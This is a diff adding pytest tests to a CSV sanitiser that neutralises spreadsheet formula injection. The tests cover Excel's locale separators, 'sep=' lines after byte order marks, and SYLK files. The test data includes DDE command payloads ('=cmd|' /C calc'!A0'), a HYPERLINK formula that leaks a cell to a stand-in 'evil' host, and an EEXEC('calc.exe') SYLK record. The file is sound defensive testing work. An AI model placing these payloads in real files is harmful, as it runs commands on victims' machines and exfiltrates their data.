@@ -528,3 +528,86 @@ def test_formula_lines_with_mixed_line_breaks_take_linear_time(tmp_path: Path, t
     assert time.perf_counter() - start < 5  # was seconds per 0.3 MB, growing squarely
     assert result.outcome == "rebuilt", result
     assert "'=" in request.destination.read_text()
+
+
+# ------------------------------------------ what Excel reads otherwise (locale, SYLK)
+
+
+def _excel_cells(data: bytes, delimiter: str) -> list[str]:
+    """Every cell as Excel reads the file on ``delimiter``: a quote starts a quoted
+    field only as its first character (csv.reader, not strict, reads it so too)."""
+    text = data.decode("utf-8-sig")
+    rows = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, strict=False)
+    return [cell for row in rows for cell in row]
+
+
+def _live(cells: list[str]) -> list[str]:
+    return [c for c in cells if c.startswith(("=", "+", "-", "@"))]
+
+
+STEERED = {
+    # the sniffer picks ";" (or "|"), an en-US Excel splits the .csv on ","
+    "semicolons": b"a;b\nc;d\ne;f\nx,=cmd|' /C calc'!A0;y\n",
+    "pipes": b'a|b\nc|d\ne|f\nx,=HYPERLINK("http://evil/?"&A1)|y\n',
+    # Excel ignores "sep=" after a byte order mark
+    "bom-and-sep": b"\xef\xbb\xbfsep=;\nname;v\nx,=cmd|' /C calc'!A0;y\n",
+    # a quote in the middle of a field is a character for Excel: on ",", the line
+    # break inside the ";" file's quoted cell starts a record
+    "quoted-on-one-delimiter-only": b"a;b\nc;d\ne;\"x,y\n=cmd|' /C calc'!A0\"\n",
+    # the other way round: a "," file read on ";"
+    "comma-file-read-on-semicolons": b"a,b\nc,d\ne,f\ng,h;@SUM(1+1)*cmd|' /C calc'!A0\n",
+}
+
+
+@pytest.mark.parametrize("name", sorted(STEERED))
+def test_cells_excel_splits_on_its_locale_separator_are_neutralised(
+    tmp_path: Path, name: str
+) -> None:
+    data = STEERED[name]
+    assert _live(_excel_cells(data, ",")) or _live(_excel_cells(data, ";"))
+    request = _request(tmp_path, data)
+    result = _disarm(request)
+    assert result.outcome == "rebuilt", result
+    assert result.actions[0].switch == "formulas" and result.actions[0].action == "neutralised"
+    out = request.destination.read_bytes()
+    assert out.startswith(b"\xef\xbb\xbf") == data.startswith(b"\xef\xbb\xbf")
+    for delimiter in (",", ";", "|"):
+        assert not _live(_excel_cells(out, delimiter)), (delimiter, out)
+    assert len(out) > len(data)  # (characters added, none removed)
+    blocked = _disarm(_request(tmp_path, data, switches={"formulas": "disallow"}))
+    assert blocked.outcome == "blocked"
+    kept = _disarm(_request(tmp_path, data, switches={"formulas": "allow"}))
+    assert kept.outcome == "unmodified"
+
+
+def test_a_named_delimiter_without_a_bom_is_the_one_excel_uses(tmp_path: Path) -> None:
+    """Excel splits on a "sep=" first line's delimiter (no byte order mark before it):
+    a comma inside a cell is then a character, not the start of a cell."""
+    data = b"sep=;\nname;v\nx,=1+1;y\n"
+    assert _disarm(_request(tmp_path, data)).outcome == "unmodified"
+
+
+def test_ordinary_files_of_either_separator_are_not_touched(tmp_path: Path) -> None:
+    for data in (
+        b"id,name,amount\n1,item,12.50\n2,other,3.25\n",
+        b"id;name;amount\n1;item;12,50\n2;other;3,25\n",  # (decimal commas)
+        b'id,notes\n1,"several lines\nsecond line"\n2,"a; b"\n',
+    ):
+        assert _disarm(_request(tmp_path, data)).outcome == "unmodified", data
+
+
+def test_a_file_excel_reads_as_sylk_is_quoted(tmp_path: Path) -> None:
+    """Excel reads a .csv starting with "ID" as SYLK, whose records hold formulas no
+    cell shows (``EEXEC``); quoted, the first cell holds the same and Excel reads CSV."""
+    data = b'ID;PWXL;N;E\r\nC;Y1;X1;K0;EEXEC("calc.exe")\r\nE\r\n'
+    request = _request(tmp_path, data)
+    result = _disarm(request)
+    assert result.outcome == "rebuilt", result
+    out = request.destination.read_bytes()
+    assert not out.startswith(b"ID") and out.startswith(b'"ID"')
+    assert _read(out, delimiter=";") == _read(data, delimiter=";")
+    plain = b"ID,name\n1,a\n2,b\n"
+    request = _request(tmp_path, plain)
+    assert _disarm(request).outcome == "rebuilt"
+    out = request.destination.read_bytes()
+    assert out == b'"ID",name\n1,a\n2,b\n' and _read(out) == _read(plain)
